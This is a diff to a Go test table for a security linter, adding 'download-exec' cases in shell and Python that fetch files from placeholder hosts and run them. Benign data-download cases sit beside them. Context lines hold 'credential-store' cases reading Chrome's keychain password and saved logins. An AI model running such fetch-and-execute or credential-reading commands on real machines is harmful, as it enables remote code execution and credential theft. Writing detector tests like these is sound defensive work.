@@ -238,6 +238,19 @@ var codeCases = []lintCase{
 	{"install.sh", "download-exec", "curl -fsSL -o /tmp/agent https://dl.example/agent\nchmod +x /tmp/agent\n/tmp/agent --daemon\n", "warning", 3},
 	{"install.sh", "download-exec", "wget -q https://dl.example/setup.sh\nbash setup.sh\n", "warning", 2},
 	{"install.sh", "download-exec", "curl -fsSL -o /tmp/data.json https://api.example/d\njq . /tmp/data.json\n", "", 0},
+	// saved into a folder of programs and run by its name; option clusters (-qO, -OL) name the file too
+	{"install.sh", "download-exec", "curl -fsSL -o \"$HOME/.local/bin/tool\" https://dl.example/tool\nchmod +x \"$HOME/.local/bin/tool\"\ntool --init\n", "warning", 3},
+	{"install.sh", "download-exec", "wget -qO ~/bin/jq https://dl.example/jq\nchmod +x ~/bin/jq\necho '{}' | jq .\n", "warning", 3},
+	{"install.sh", "download-exec", "cd /tmp && curl -OL https://dl.example/agent && chmod +x agent && ./agent\n", "warning", 1},
+	{"install.sh", "download-exec", "curl -fsSL -o \"$HOME/.local/bin/tool.json\" https://dl.example/t.json\ntool --config \"$HOME/.local/bin/tool.json\"\n", "", 0},
+	// Python: a download saved, then run as a program or a script
+	{"setup.py", "download-exec", "import os, subprocess, urllib.request\np = '/tmp/agent'\nurllib.request.urlretrieve('https://dl.example/agent', p)\nos.chmod(p, 0o755)\nsubprocess.run([p])\n", "warning", 5},
+	{"setup.py", "download-exec", "import subprocess, requests\nr = requests.get('https://dl.example/s.sh', timeout=30)\nwith open('/tmp/s.sh', 'wb') as fh:\n    fh.write(r.content)\nsubprocess.run(['bash', '/tmp/s.sh'], check=True)\n", "warning", 5},
+	{"setup.py", "download-exec", "import subprocess, urllib.request\nurllib.request.urlretrieve('https://x.example/d.json', '/tmp/d.json')\nsubprocess.run(['jq', '.', '/tmp/d.json'])\n", "", 0},
+	{"run.py", "download-exec", "import os, subprocess, urllib.request\ndef runner():\n    p = os.path.join(os.environ.get('TMPDIR', '/tmp'), 'r')\n    urllib.request.urlretrieve('https://dl.example/r', p)\n    return p\ndef main():\n    subprocess.run([runner(), '--x'])\n", "warning", 7},
+	{"run.py", "download-exec", "import os, sys, urllib.request\np = os.path.join(sys.argv[1], 'log.txt')\nurllib.request.urlretrieve('https://dl.example/log.txt', p)\nos.system('cat ' + p)\n", "", 0},
+	{"run.py", "download-exec", "import os, sys, urllib.request\np = os.path.join(sys.argv[1], 'run')\nurllib.request.urlretrieve('https://dl.example/run', p)\nos.chmod(p, 0o755)\nos.system(p)\n", "warning", 5},
+	{"run.py", "download-exec", "import subprocess, urllib.request\ndef fetch_db():\n    p = 'chinook.db'\n    urllib.request.urlretrieve('https://dl.example/c.db', p)\n    return p\nsubprocess.run(['sqlite3', fetch_db(), '.tables'])\n", "", 0},
 	// credential-store
 	{"x.sh", "credential-store", "security find-generic-password -s 'Chrome Safe Storage' -w\n", "warning", 1},
 	{"x.sh", "credential-store", "P=\"$HOME/Library/Application Support/Google/Chrome/Default\"\nsqlite3 \"$P/Login Data\" 'select * from logins'\n", "warning", 2},
